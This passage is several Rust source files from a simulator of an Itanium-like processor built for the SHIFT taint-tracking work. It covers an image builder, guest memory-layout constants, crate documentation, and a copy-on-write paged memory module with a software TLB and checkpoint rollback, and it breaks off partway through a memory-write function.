    /// bundle, which is how Table 3's sizes are estimated.
    pub fn code_bytes(&self) -> u64 {
        (self.code.len() as u64).div_ceil(3) * 16
    }

    /// Name of the function containing instruction `ip`, if known.
    pub fn symbol_at(&self, ip: usize) -> Option<&str> {
        self.symbols.range(..=ip).next_back().map(|(_, name)| name.as_str())
    }
}

/// Builder for [`Image`].
#[derive(Clone, Debug)]
pub struct ImageBuilder {
    code: Vec<Insn>,
    entry: usize,
    data: Vec<(u64, Vec<u8>)>,
    maps: Vec<(u64, u64)>,
    symbols: BTreeMap<usize, String>,
    stack_top: u64,
    stack_size: u64,
}

impl Default for ImageBuilder {
    fn default() -> Self {
        ImageBuilder {
            code: Vec::new(),
            entry: 0,
            data: Vec::new(),
            maps: Vec::new(),
            symbols: BTreeMap::new(),
            stack_top: layout::stack_top(),
            stack_size: layout::STACK_SIZE,
        }
    }
}

impl ImageBuilder {
    /// Sets the code image.
    pub fn code(mut self, code: Vec<Insn>) -> Self {
        self.code = code;
        self
    }

    /// Sets the entry instruction index (default 0).
    pub fn entry(mut self, entry: usize) -> Self {
        self.entry = entry;
        self
    }

    /// Adds an initialized data segment.
    pub fn data(mut self, vaddr: u64, bytes: Vec<u8>) -> Self {
        self.data.push((vaddr, bytes));
        self
    }

    /// Adds a zero-initialized mapping.
    pub fn map(mut self, vaddr: u64, len: u64) -> Self {
        self.maps.push((vaddr, len));
        self
    }

    /// Records a function symbol.
    pub fn symbol(mut self, ip: usize, name: impl Into<String>) -> Self {
        self.symbols.insert(ip, name.into());
        self
    }

    /// Overrides the stack placement.
    pub fn stack(mut self, top: u64, size: u64) -> Self {
        self.stack_top = top;
        self.stack_size = size;
        self
    }

    /// Finalizes the image.
    ///
    /// # Panics
    ///
    /// Panics if the entry point lies outside the code.
    pub fn build(self) -> Image {
        assert!(
            self.entry < self.code.len() || self.code.is_empty(),
            "entry point {} outside code of {} instructions",
            self.entry,
            self.code.len()
        );
        Image {
            code: self.code,
            entry: self.entry,
            data: self.data,
            maps: self.maps,
            symbols: self.symbols,
            stack_top: self.stack_top,
            stack_size: self.stack_size,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_isa::Op;

    #[test]
    fn symbol_lookup_finds_enclosing_function() {
        let img = Image::builder()
            .code(vec![Insn::new(Op::Nop); 10])
            .symbol(0, "main")
            .symbol(5, "helper")
            .build();
        assert_eq!(img.symbol_at(0), Some("main"));
        assert_eq!(img.symbol_at(4), Some("main"));
        assert_eq!(img.symbol_at(5), Some("helper"));
        assert_eq!(img.symbol_at(9), Some("helper"));
    }

    #[test]
    fn code_bytes_models_bundles() {
        let img = Image::builder().code(vec![Insn::new(Op::Nop); 7]).build();
        // 7 insns → 3 bundles → 48 bytes.
        assert_eq!(img.code_bytes(), 48);
        assert_eq!(img.insn_count(), 7);
    }

    #[test]
    #[should_panic(expected = "entry point")]
    fn bad_entry_rejected() {
        let _ = Image::builder().code(vec![Insn::new(Op::Nop)]).entry(5).build();
    }
}
