//! Memory-layout conventions for guest programs.
//!
//! The 64-bit virtual address space is split into 8 regions by its top three
//! bits (paper §4.1). Region 0 is reserved — real Itanium uses it for IA-32
//! compatibility, which is why SHIFT can claim it for the tag space. The
//! loader and runtime place guest segments as follows:
//!
//! | Region | Use                          |
//! |--------|------------------------------|
//! | 0      | taint-tag bitmap (lazily backed) |
//! | 1      | globals / static data        |
//! | 2      | heap (`brk` bump allocator)  |
//! | 3      | stack (grows down)           |
//! | 4–7    | unused                       |

use shift_isa::make_vaddr;

/// Region number of the taint-tag space.
pub const TAG_REGION: u8 = 0;
/// Region number of the static-data segment.
pub const DATA_REGION: u8 = 1;
/// Region number of the heap.
pub const HEAP_REGION: u8 = 2;
/// Region number of the stack.
pub const STACK_REGION: u8 = 3;

/// Base virtual address of static data.
pub const DATA_BASE: u64 = (DATA_REGION as u64) << 61;

/// First 8-byte *launder slot*: scratch memory the instrumentation uses to
/// clear NaT bits on baseline hardware (spill + plain reload, §4.1). The
/// first data page is reserved for these slots; globals start at
/// [`GLOBALS_BASE`].
pub const LAUNDER0: u64 = DATA_BASE;
/// Second launder slot (two compare operands may need laundering at once).
pub const LAUNDER1: u64 = DATA_BASE + 8;
/// Base virtual address where the compiler lays out program globals.
pub const GLOBALS_BASE: u64 = DATA_BASE + 4096;
/// Base virtual address of the heap.
pub const HEAP_BASE: u64 = (HEAP_REGION as u64) << 61;

/// Default stack size in bytes (1 MiB).
pub const STACK_SIZE: u64 = 1 << 20;

/// Initial stack pointer: near the top of the stack region, 16-byte aligned,
/// with a small red zone below the highest implemented address.
pub fn stack_top() -> u64 {
    // Leave one page unmapped at the very top as a guard.
    make_vaddr(STACK_REGION, (1 << 24) - 4096)
}

/// Lowest mapped stack address for the default stack size.
pub fn stack_limit() -> u64 {
    stack_top() - STACK_SIZE
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_isa::{is_implemented, region_of};

    #[test]
    fn layout_addresses_are_canonical() {
        for addr in [DATA_BASE, HEAP_BASE, stack_top(), stack_limit()] {
            assert!(is_implemented(addr), "{addr:#x} must be implemented");
        }
        assert_eq!(region_of(DATA_BASE), DATA_REGION);
        assert_eq!(region_of(HEAP_BASE), HEAP_REGION);
        assert_eq!(region_of(stack_top()), STACK_REGION);
    }

    #[test]
    fn stack_is_aligned_and_nonempty() {
        assert_eq!(stack_top() % 16, 0);
        assert!(stack_top() > stack_limit());
    }
}
