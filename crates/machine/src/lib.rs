//! # shift-machine — the simulated Itanium-like processor
//!
//! An in-order functional simulator with a cycle cost model for the ISA
//! defined in [`shift_isa`]. It implements the deferred-exception semantics
//! SHIFT builds on (§2.2 of the paper):
//!
//! * every GPR carries a NaT bit, OR-propagated through computation;
//! * speculative loads (`ld*.s`) record failures (unmapped or unimplemented
//!   addresses, NaT address registers) in the target's NaT bit instead of
//!   faulting;
//! * `chk.s` branches to recovery code when the NaT bit is set;
//! * NaT-*consumption* faults fire when NaT'd registers reach places where
//!   deferral is impossible: stores (other than `st8.spill`), non-speculative
//!   address uses, and branch registers — the last being the hardware half of
//!   policy L3;
//! * `st8.spill`/`ld8.fill` round-trip NaT bits through the `UNAT` register.
//!
//! The cost model is in-order and single-issue: each instruction retires
//! after its base latency (see [`shift_isa::CostModel`]) plus any memory
//! stall from the two-level [`cache`] model, and its cycles are attributed to
//! the instruction's [`shift_isa::Provenance`] — that attribution regenerates
//! the paper's Figure 9 breakdown exactly.
//!
//! The machine knows nothing about taint policies: the host runtime
//! (`shift-core`) supplies an [`Os`] implementation that handles
//! [`shift_isa::Op::Syscall`] traps, implements taint sources/sinks, and may
//! stop the run with a policy [`Violation`].
//!
//! ## Example
//!
//! ```
//! use shift_isa::{Insn, Op, Gpr};
//! use shift_machine::{Exit, Image, Machine, NullOs};
//!
//! let image = Image::builder()
//!     .code(vec![
//!         Insn::new(Op::MovI { dst: Gpr::R8, imm: 42 }),
//!         Insn::new(Op::Halt),
//!     ])
//!     .build();
//! let mut m = Machine::new(&image);
//! assert_eq!(m.run(&mut NullOs, 1_000), Exit::Halted(42));
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod block;
pub mod cache;
mod cpu;
mod exec;
mod fault;
mod image;
pub mod layout;
mod mem;
mod seed;
mod snapshot;
mod stats;

pub use cache::CacheHierarchy;
pub use cpu::{Cpu, RegVal};
pub use exec::{Machine, NullOs, Os, StepOut, SuperblockStats, SysResult};
pub use fault::{Fault, NatFaultKind};
pub use image::{Image, ImageBuilder};
pub use mem::{MemError, Memory, PAGE_SIZE};
pub use seed::MachineSeed;
pub use snapshot::{Injection, Snapshot};
pub use stats::{Exit, Stats, Violation};

// Observability types surface through the machine's enable/accessor
// methods; re-export them so downstream crates need not depend on
// `shift-obs` directly for the common paths.
pub use shift_obs::{
    FuncSpan, Profiler, Sample, TaintEvent, TaintJournal, TaintObserver, TraceEvent, TraceKind,
    TraceRing,
};
