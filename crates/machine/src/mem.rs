//! Sparse paged guest memory with copy-on-write page sharing.
//!
//! Pages are allocated on demand for *mapped* ranges; region 0 (the tag
//! space) is lazily zero-backed on first touch, modelling a kernel that
//! demand-faults the bitmap in, so instrumented code can touch the tag of any
//! mapped data address without explicit setup (§3.2).
//!
//! # Host performance
//!
//! Guest loads/stores are the interpreter's hottest operation, so the layout
//! is chosen for the host, not just the model (see DESIGN.md §8 and §15):
//!
//! * A page frame's backing is a [`PageData`]: `Zero` (no backing at all —
//!   the canonical deduplicated all-zero page, which is also every all-clean
//!   region-0 tag page), `Shared` (an `Arc`'d immutable page, the pristine
//!   image or a checkpoint origin), or `Owned` (this instance's private,
//!   writable copy). Reads serve from any variant; the first write to a
//!   non-`Owned` page takes a *COW fault* that materializes a private copy.
//! * The whole page table (frames, index, mappings) lives behind one `Arc`,
//!   so cloning a `Memory` — the [`crate::MachineSeed::spawn`] path — is a
//!   reference-count bump, O(1) in the image size. The first mutation after
//!   a clone un-shares the table (frame *headers* copy; page *contents*
//!   stay shared until individually COW-faulted).
//! * Page frames live in an arena (`frames`) indexed by a `page_idx` map, so
//!   a frame is reachable from a plain integer slot without hashing.
//! * A small direct-mapped software TLB caches `page → slot` translations.
//!   An entry is only installed after a *successful* access, so a hit
//!   implies the page is implemented and mapped — the fast path needs only
//!   the alignment check to produce identical errors. Each entry carries a
//!   `writable` bit that is set only when the frame is `Owned` *and* its
//!   pre-image is already journaled under the active checkpoint: the TLB
//!   hands out write-through slots only for such pages, and every other
//!   write goes through the slow path to take its COW fault / journal
//!   touch first. The TLB is flushed whenever translations or writability
//!   can change wholesale (`map_range`, `begin_checkpoint`,
//!   `rollback_checkpoint`, `freeze`); hit/miss counters are exported via
//!   [`Memory::tlb_stats`] and COW traffic via [`Memory::cow_stats`].
//! * Bulk accessors (`read_bytes`/`write_bytes`/`read_cstr`) work per
//!   page-span: one permission check, one frame lookup, and one journal
//!   touch per page instead of per byte. Implementedness and mapping are
//!   page-granular, so per-span checks fault at exactly the byte the
//!   per-byte loop would have.
//! * Checkpoint pre-images use the same sharing scheme: journaling a
//!   `Shared` page is an `Arc` bump, and rollback restores pages as
//!   `Shared` — so repeated rollbacks to one checkpoint never re-copy.
//!
//! None of this is visible to the model: modelled cycles come from the cost
//! model and cache simulator, never from host data-structure choices, and
//! `state_digest` hashes page *contents*, which sharing never changes.

use std::collections::{HashMap, HashSet};
use std::sync::Arc;

use shift_isa::{is_implemented, region_of};

/// Page size in bytes.
pub const PAGE_SIZE: u64 = 4096;

const PAGE_USIZE: usize = PAGE_SIZE as usize;

/// The canonical all-zero page every `PageData::Zero` frame reads from.
static ZERO_PAGE: [u8; PAGE_USIZE] = [0u8; PAGE_USIZE];

/// log2 of the number of software-TLB entries.
const TLB_BITS: u32 = 5;
const TLB_SIZE: usize = 1 << TLB_BITS;

/// Sentinel page number marking an empty TLB entry. Unreachable by real
/// translations: page `u64::MAX` would require addresses above the
/// implemented-bits ceiling.
const TLB_EMPTY: u64 = u64::MAX;

/// Error from a raw memory access (converted to a [`crate::Fault`] by the
/// executor, which adds the faulting `ip`).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum MemError {
    /// Address has unimplemented bits set.
    Unimplemented {
        /// The offending address.
        addr: u64,
    },
    /// Address is not mapped.
    Unmapped {
        /// The offending address.
        addr: u64,
    },
    /// Access is not naturally aligned.
    Unaligned {
        /// The offending address.
        addr: u64,
        /// Access size in bytes.
        size: u64,
    },
}

impl MemError {
    /// The address involved in the error.
    pub fn addr(&self) -> u64 {
        match *self {
            MemError::Unimplemented { addr }
            | MemError::Unmapped { addr }
            | MemError::Unaligned { addr, .. } => addr,
        }
    }
}

impl std::fmt::Display for MemError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match *self {
            MemError::Unimplemented { addr } => write!(f, "unimplemented bits in {addr:#x}"),
            MemError::Unmapped { addr } => write!(f, "unmapped address {addr:#x}"),
            MemError::Unaligned { addr, size } => {
                write!(f, "unaligned {size}-byte access at {addr:#x}")
            }
        }
    }
}

impl std::error::Error for MemError {}

/// Backing storage of one resident page.
///
/// `Zero` and `Shared` are immutable — a write COW-faults them into `Owned`
/// first. Cloning is an `Arc` bump for `Shared`, free for `Zero`, and a deep
/// copy only for `Owned` (which by construction only happens when a dirtied
/// instance is itself cloned).
#[derive(Clone, Debug)]
enum PageData {
    /// No backing: reads see the canonical all-zero page. Every all-zero
    /// page — lazily-faulted region-0 tag pages included — deduplicates to
    /// this one representation.
    Zero,
    /// An immutable page shared by reference: the pristine image a spawn
    /// inherits, or a checkpoint pre-image a rollback restored.
    Shared(Arc<[u8; PAGE_USIZE]>),
    /// This instance's private copy, produced by a COW fault; the only
    /// variant the write path may hand out.
    Owned(Box<[u8; PAGE_USIZE]>),
}

impl PageData {
    /// The page's bytes, wherever they live.
    #[inline]
    fn bytes(&self) -> &[u8; PAGE_USIZE] {
        match self {
            PageData::Zero => &ZERO_PAGE,
            PageData::Shared(a) => a,
            PageData::Owned(b) => b,
        }
    }
}

/// One resident page frame. `stamp` is the journal generation whose
/// pre-image capture already covered this frame (see
/// [`Memory::journal_touch`]).
#[derive(Clone, Debug)]
struct Frame {
    page: u64,
    data: PageData,
    stamp: u64,
}

#[derive(Clone, Copy, Debug)]
struct TlbEntry {
    page: u64,
    slot: u32,
    /// `true` only when the frame is `Owned` *and* journaled under the
    /// current generation: the one case a write may go straight through.
    writable: bool,
}

const EMPTY_TLB: [TlbEntry; TLB_SIZE] =
    [TlbEntry { page: TLB_EMPTY, slot: 0, writable: false }; TLB_SIZE];

/// The sharable page table: everything a pristine image contributes. Lives
/// behind an `Arc` in [`Memory`] so spawning shares it wholesale; the first
/// mutation after a share clones frame headers (`Arc::make_mut`) while page
/// contents stay shared until individually COW-faulted.
#[derive(Clone, Debug, Default)]
struct Table {
    frames: Vec<Frame>,
    page_idx: HashMap<u64, u32>,
    mapped: HashSet<u64>,
}

impl Table {
    /// Removes `page`'s frame from the arena (`swap_remove` + index fixup
    /// for the frame that moved into the vacated slot).
    fn remove_page(&mut self, page: u64) {
        let Some(slot) = self.page_idx.remove(&page) else { return };
        self.frames.swap_remove(slot as usize);
        if let Some(moved) = self.frames.get(slot as usize) {
            self.page_idx.insert(moved.page, slot);
        }
    }
}

/// Sparse paged memory with explicit mappings (plus lazily-backed region 0).
///
/// Besides byte contents, the memory tracks one NaT bit per 8-byte slot for
/// `st8.spill`/`ld8.fill`. Real Itanium banks these bits in the 64-bit `UNAT`
/// register and relies on the compiler to save/restore `UNAT` around spill
/// areas; modelling the bits as a per-slot side table is equivalent to a
/// compiler that manages `UNAT` correctly, without emitting the bookkeeping
/// code. Ordinary stores *clear* the slot's NaT bit (the spilled value is
/// gone), and ordinary loads never see it — only `ld8.fill` does.
///
/// Cloning shares the whole page table copy-on-write (see the module docs):
/// a clone of a [`Memory::freeze`]-prepared pristine image costs O(1) in the
/// image size, and the clones stay observably independent.
#[derive(Clone, Debug)]
pub struct Memory {
    table: Arc<Table>,
    spill_nat: HashSet<u64>,
    journal: Option<Journal>,
    epoch: u64,
    /// Bumped on `begin_checkpoint` and `rollback_checkpoint`; a frame whose
    /// `stamp` equals this value already has its pre-image journaled.
    journal_gen: u64,
    tlb: [TlbEntry; TLB_SIZE],
    tlb_hits: u64,
    tlb_misses: u64,
    /// COW faults taken: transitions of a `Zero`/`Shared`/absent page into a
    /// private `Owned` copy on this instance's write path.
    cow_faults: u64,
}

impl Default for Memory {
    fn default() -> Memory {
        Memory {
            table: Arc::new(Table::default()),
            spill_nat: HashSet::new(),
            journal: None,
            epoch: 0,
            journal_gen: 0,
            tlb: EMPTY_TLB,
            tlb_hits: 0,
            tlb_misses: 0,
            cow_faults: 0,
        }
    }
}

/// Copy-on-write undo log for one active checkpoint.
///
/// Page *contents* are captured lazily: the first write to a page after the
/// checkpoint records its pre-image. Pre-images use the page-sharing scheme
/// — journaling a `Shared` page is an `Arc` bump, and only an already-private
/// `Owned` page pays a byte copy. The small bookkeeping sets (`mapped`,
/// `spill_nat`) are captured eagerly — they hold one entry per page / spill
/// slot and cloning them is far cheaper than intercepting every mutation.
#[derive(Clone, Debug, Default)]
struct Journal {
    pre_pages: HashMap<u64, PreImage>,
    pre_mapped: HashSet<u64>,
    pre_spill_nat: HashSet<u64>,
}

/// A journaled page pre-image. Never holds an `Owned` page: capture either
/// shares the existing immutable backing or copies a dirtied page into a
/// fresh `Arc`, so rollback always restores by reference.
#[derive(Clone, Debug)]
enum PreImage {
    /// The page did not exist at capture; rollback drops it again.
    Absent,
    /// The page existed with no backing (all-zero).
    Zero,
    /// The page's bytes at capture, shared with any later rollback.
    Bytes(Arc<[u8; PAGE_USIZE]>),
}

/// Natural-alignment check. Executor access sizes (`MemSize::bytes()`) are
/// always powers of two, so the common case is a mask test rather than the
/// `u64` division `is_multiple_of` costs on the hot load/store path; the
/// fallback keeps the documented any-size behaviour of the public accessors.
#[inline]
fn aligned(addr: u64, size: u64) -> bool {
    if size.is_power_of_two() {
        addr & (size - 1) == 0
    } else {
        addr.is_multiple_of(size)
    }
}

impl Memory {
    /// Creates an empty address space.
    pub fn new() -> Memory {
        Memory::default()
    }

    #[inline]
    fn tlb_index(page: u64) -> usize {
        // Multiplicative hashing spreads region and tag-space bits so a data
        // page and its tag page rarely collide in the direct-mapped array.
        (page.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> (64 - TLB_BITS)) as usize
    }

    #[inline]
    fn tlb_flush(&mut self) {
        self.tlb = EMPTY_TLB;
    }

    /// Software-TLB hit/miss counters. Host-side diagnostics only: the TLB
    /// models nothing and contributes no modelled cycles.
    pub fn tlb_stats(&self) -> (u64, u64) {
        (self.tlb_hits, self.tlb_misses)
    }

    /// Copy-on-write footprint counters, host-side diagnostics like
    /// [`Memory::tlb_stats`]: `(owned_pages, shared_pages, cow_faults)`.
    pub fn cow_stats(&self) -> (usize, usize, u64) {
        (self.owned_pages(), self.shared_pages(), self.cow_faults)
    }

    /// Pages this instance privately owns — its real per-instance memory
    /// cost, `owned_pages() * PAGE_SIZE` bytes. Shared and zero pages cost
    /// an instance nothing beyond the frame header.
    pub fn owned_pages(&self) -> usize {
        self.table.frames.iter().filter(|f| matches!(f.data, PageData::Owned(_))).count()
    }

    /// Resident pages backed by a shared (`Arc`'d) immutable page — the
    /// pristine image this instance references but has not dirtied.
    pub fn shared_pages(&self) -> usize {
        self.table.frames.iter().filter(|f| matches!(f.data, PageData::Shared(_))).count()
    }

    /// Resident pages with no backing at all (all-zero / all-clean),
    /// deduplicated to the canonical zero page.
    pub fn zero_pages(&self) -> usize {
        self.table.frames.iter().filter(|f| matches!(f.data, PageData::Zero)).count()
    }

    /// COW faults this instance has taken: writes that materialized a
    /// private copy of a zero, shared, or absent page.
    pub fn cow_faults(&self) -> u64 {
        self.cow_faults
    }

    /// The page bytes behind `slot` (read path — any variant serves).
    #[inline]
    fn page_bytes(&self, slot: u32) -> &[u8; PAGE_USIZE] {
        self.table.frames[slot as usize].data.bytes()
    }

    /// The private writable page behind `slot`. Callers must have gone
    /// through the write-resolution path (a writable TLB hit or
    /// [`Memory::resolve_slow`] with `for_write`), which guarantees the
    /// frame is `Owned`.
    #[inline]
    fn page_bytes_mut(&mut self, slot: u32) -> &mut [u8; PAGE_USIZE] {
        let table = Arc::make_mut(&mut self.table);
        match &mut table.frames[slot as usize].data {
            PageData::Owned(b) => b,
            _ => unreachable!("write path handed out a non-owned page"),
        }
    }

    /// Whether a freshly-installed TLB entry for `slot` may carry the
    /// `writable` bit without going through the write path: the frame is
    /// already private *and* its pre-image is journaled (or no checkpoint
    /// is armed).
    #[inline]
    fn fast_writable(&self, slot: u32) -> bool {
        let f = &self.table.frames[slot as usize];
        matches!(f.data, PageData::Owned(_))
            && (self.journal.is_none() || f.stamp == self.journal_gen)
    }

    /// Takes the COW fault for `slot` if its page is not yet private:
    /// `Zero`/`Shared` become a freshly copied `Owned` page.
    #[inline]
    fn own_frame(&mut self, slot: u32) {
        // Fast no-op probe without un-sharing the table.
        if matches!(self.table.frames[slot as usize].data, PageData::Owned(_)) {
            return;
        }
        let table = Arc::make_mut(&mut self.table);
        let frame = &mut table.frames[slot as usize];
        frame.data = match &frame.data {
            PageData::Zero => PageData::Owned(Box::new([0u8; PAGE_USIZE])),
            PageData::Shared(a) => PageData::Owned(Box::new(**a)),
            PageData::Owned(_) => unreachable!("probed above"),
        };
        self.cow_faults += 1;
    }

    /// Full translation: permission checks, frame allocation, journaling
    /// and COW faulting (for writes), and TLB fill. Error order matches the
    /// historical `check()`: `Unimplemented` before `Unmapped`.
    fn resolve_slow(&mut self, addr: u64, for_write: bool) -> Result<u32, MemError> {
        self.tlb_misses += 1;
        if !is_implemented(addr) {
            return Err(MemError::Unimplemented { addr });
        }
        let page = addr / PAGE_SIZE;
        if !self.table.mapped.contains(&page) && region_of(addr) != 0 {
            return Err(MemError::Unmapped { addr });
        }
        let slot = match self.table.page_idx.get(&page) {
            Some(&slot) => {
                if for_write {
                    self.journal_touch(page, slot);
                    self.own_frame(slot);
                }
                slot
            }
            None => {
                // The page did not exist. Reads install a backing-free
                // `Zero` frame — observably identical to an absent page and
                // to the all-zero page the old implementation allocated,
                // but deduplicated to the canonical zero page. Writes
                // journal the page as `Absent` (rollback drops it again)
                // and take the COW fault to a private zeroed copy.
                let mut stamp = 0;
                let mut data = PageData::Zero;
                if for_write {
                    if let Some(j) = &mut self.journal {
                        j.pre_pages.entry(page).or_insert(PreImage::Absent);
                        stamp = self.journal_gen;
                    }
                    data = PageData::Owned(Box::new([0u8; PAGE_USIZE]));
                    self.cow_faults += 1;
                }
                let table = Arc::make_mut(&mut self.table);
                let slot = u32::try_from(table.frames.len()).expect("frame arena overflow");
                table.frames.push(Frame { page, data, stamp });
                table.page_idx.insert(page, slot);
                slot
            }
        };
        let writable = if for_write { true } else { self.fast_writable(slot) };
        self.tlb[Self::tlb_index(page)] = TlbEntry { page, slot, writable };
        Ok(slot)
    }

    /// Translation for byte-granularity accessors (no alignment concerns).
    /// A read may use any TLB hit; a write-through hit additionally needs
    /// the `writable` bit — anything else resolves slowly (COW fault,
    /// journal touch, entry upgrade).
    #[inline]
    fn slot_for(&mut self, addr: u64, for_write: bool) -> Result<u32, MemError> {
        let page = addr / PAGE_SIZE;
        let e = self.tlb[Self::tlb_index(page)];
        if e.page == page && (!for_write || e.writable) {
            self.tlb_hits += 1;
            Ok(e.slot)
        } else {
            self.resolve_slow(addr, for_write)
        }
    }

    /// Records the pre-image of frame `slot` (backing `page`) before its
    /// first modification under the active checkpoint. The generation stamp
    /// makes repeat touches a single integer compare; a `Shared` page's
    /// pre-image is an `Arc` bump, so only already-private pages pay a copy.
    #[inline]
    fn journal_touch(&mut self, page: u64, slot: u32) {
        let Some(j) = &mut self.journal else { return };
        let table = Arc::make_mut(&mut self.table);
        let f = &mut table.frames[slot as usize];
        if f.stamp != self.journal_gen {
            f.stamp = self.journal_gen;
            j.pre_pages.entry(page).or_insert_with(|| match &f.data {
                PageData::Zero => PreImage::Zero,
                PageData::Shared(a) => PreImage::Bytes(a.clone()),
                PageData::Owned(b) => PreImage::Bytes(Arc::new(**b)),
            });
        }
    }

    /// Converts every private (`Owned`) page into an immutable shared one
    /// and deduplicates all-zero pages (all-clean region-0 tag pages
    /// included) down to the canonical backing-free zero page.
    ///
    /// This is the load-time preparation step for spawn-sharing
    /// ([`crate::MachineSeed`]): after a freeze, cloning this memory is an
    /// `Arc` bump and every clone COW-faults its own private copies on
    /// first write. Observably a no-op — contents, mappings, digests, and
    /// error behaviour are unchanged. Also resets the host-side TLB/COW
    /// diagnostic counters, so instances meter their own traffic rather
    /// than inheriting the loader's.
    pub fn freeze(&mut self) {
        let table = Arc::make_mut(&mut self.table);
        for f in &mut table.frames {
            if let PageData::Owned(b) = &f.data {
                f.data = if b.iter().all(|&x| x == 0) {
                    PageData::Zero
                } else {
                    PageData::Shared(Arc::new(**b))
                };
            }
        }
        self.tlb_flush();
        self.tlb_hits = 0;
        self.tlb_misses = 0;
        self.cow_faults = 0;
    }

    /// Maps (zero-fills) the pages covering `[addr, addr+len)`.
    ///
    /// # Panics
    ///
    /// Panics if the range touches unimplemented address bits — mappings are
    /// made by the loader/runtime, which must use canonical addresses.
    pub fn map_range(&mut self, addr: u64, len: u64) {
        if len == 0 {
            return;
        }
        let end = addr.checked_add(len - 1).expect("mapping wraps the address space");
        assert!(
            is_implemented(addr) && is_implemented(end),
            "mapping {addr:#x}+{len:#x} touches unimplemented bits"
        );
        let first = addr / PAGE_SIZE;
        let last = end / PAGE_SIZE;
        let table = Arc::make_mut(&mut self.table);
        for page in first..=last {
            table.mapped.insert(page);
        }
        self.tlb_flush();
    }

    /// Returns `true` if the byte at `addr` is mapped (or lazily mappable —
    /// i.e. an implemented region-0 tag address).
    pub fn is_mapped(&self, addr: u64) -> bool {
        let page = addr / PAGE_SIZE;
        let e = self.tlb[Self::tlb_index(page)];
        if e.page == page {
            return true;
        }
        is_implemented(addr) && (self.table.mapped.contains(&page) || region_of(addr) == 0)
    }

    /// Arms a copy-on-write checkpoint: subsequent writes record page
    /// pre-images so [`Memory::rollback_checkpoint`] can undo them. Replaces
    /// any previous checkpoint. Returns the checkpoint's epoch.
    pub fn begin_checkpoint(&mut self) -> u64 {
        self.epoch += 1;
        self.journal_gen += 1;
        self.journal = Some(Journal {
            pre_pages: HashMap::new(),
            pre_mapped: self.table.mapped.clone(),
            pre_spill_nat: self.spill_nat.clone(),
        });
        // Writable TLB bits encode "journaled under the current generation";
        // a new generation invalidates them all.
        self.tlb_flush();
        self.epoch
    }

    /// Epoch of the active checkpoint (0 when none has ever been armed).
    pub fn checkpoint_epoch(&self) -> u64 {
        self.epoch
    }

    /// Returns `true` if a checkpoint is armed.
    pub fn has_checkpoint(&self) -> bool {
        self.journal.is_some()
    }

    /// Undoes every modification since [`Memory::begin_checkpoint`]: dirtied
    /// pages revert to their pre-images (restored *by reference* — a page
    /// rolled back twice is never copied twice), pages that did not exist
    /// are dropped, and mappings / banked spill-NaT bits revert wholesale.
    /// The checkpoint stays armed, so the same point can be rolled back to
    /// again. Returns `false` (doing nothing) when no checkpoint is armed.
    pub fn rollback_checkpoint(&mut self) -> bool {
        if self.journal.is_none() {
            return false;
        }
        let (pre_pages, pre_mapped, pre_spill_nat) = {
            let j = self.journal.as_mut().expect("checkpoint armed");
            (j.pre_pages.drain().collect::<Vec<_>>(), j.pre_mapped.clone(), j.pre_spill_nat.clone())
        };
        // Frames keep stamps from the closed generation; bumping makes the
        // next write after this rollback journal a fresh pre-image.
        self.journal_gen += 1;
        let table = Arc::make_mut(&mut self.table);
        for (page, pre) in pre_pages {
            match pre {
                PreImage::Bytes(data) => {
                    let slot = table.page_idx[&page];
                    table.frames[slot as usize].data = PageData::Shared(data);
                }
                PreImage::Zero => {
                    let slot = table.page_idx[&page];
                    table.frames[slot as usize].data = PageData::Zero;
                }
                PreImage::Absent => table.remove_page(page),
            }
        }
        table.mapped = pre_mapped;
        self.spill_nat = pre_spill_nat;
        // Rollback can drop pages, revoke mappings, and un-own frames:
        // every cached translation is suspect.
        self.tlb_flush();
        true
    }

    /// Drops the active checkpoint (if any) without undoing anything.
    pub fn discard_checkpoint(&mut self) {
        self.journal = None;
    }

    /// Number of pages dirtied since the active checkpoint was armed (0
    /// when none is armed) — the copy-on-write footprint of a rollback.
    pub fn dirty_pages(&self) -> usize {
        self.journal.as_ref().map_or(0, |j| j.pre_pages.len())
    }

    /// Reads a naturally-aligned little-endian integer of `size` ∈ {1,2,4,8}
    /// bytes, zero-extended to `u64`.
    ///
    /// # Errors
    ///
    /// [`MemError`] on unimplemented, unmapped, or unaligned access.
    pub fn read_int(&mut self, addr: u64, size: u64) -> Result<u64, MemError> {
        let page = addr / PAGE_SIZE;
        let e = self.tlb[Self::tlb_index(page)];
        let slot = if e.page == page {
            // A hit proves implemented + mapped; only alignment can fail.
            self.tlb_hits += 1;
            if !aligned(addr, size) {
                return Err(MemError::Unaligned { addr, size });
            }
            e.slot
        } else {
            // Historical error order: unimplemented, unaligned, unmapped.
            if !is_implemented(addr) {
                return Err(MemError::Unimplemented { addr });
            }
            if !aligned(addr, size) {
                return Err(MemError::Unaligned { addr, size });
            }
            self.resolve_slow(addr, false)?
        };
        let data = self.page_bytes(slot);
        let off = (addr % PAGE_SIZE) as usize;
        Ok(match size {
            8 => u64::from_le_bytes(data[off..off + 8].try_into().expect("8-byte slice")),
            4 => {
                u64::from(u32::from_le_bytes(data[off..off + 4].try_into().expect("4-byte slice")))
            }
            2 => {
                u64::from(u16::from_le_bytes(data[off..off + 2].try_into().expect("2-byte slice")))
            }
            1 => u64::from(data[off]),
            sz => {
                let mut v = 0u64;
                for i in (0..sz as usize).rev() {
                    v = (v << 8) | u64::from(data[off + i]);
                }
                v
            }
        })
    }

    /// Writes a naturally-aligned little-endian integer of `size` ∈ {1,2,4,8}
    /// bytes (value truncated to `size`).
    ///
    /// # Errors
    ///
    /// [`MemError`] on unimplemented, unmapped, or unaligned access.
    pub fn write_int(&mut self, addr: u64, size: u64, value: u64) -> Result<(), MemError> {
        let page = addr / PAGE_SIZE;
        let e = self.tlb[Self::tlb_index(page)];
        let slot = if e.page == page && e.writable {
            // A writable hit proves the frame is private and journaled:
            // write straight through.
            self.tlb_hits += 1;
            if !aligned(addr, size) {
                return Err(MemError::Unaligned { addr, size });
            }
            e.slot
        } else {
            if !is_implemented(addr) {
                return Err(MemError::Unimplemented { addr });
            }
            if !aligned(addr, size) {
                return Err(MemError::Unaligned { addr, size });
            }
            self.resolve_slow(addr, true)?
        };
        let data = self.page_bytes_mut(slot);
        let off = (addr % PAGE_SIZE) as usize;
        match size {
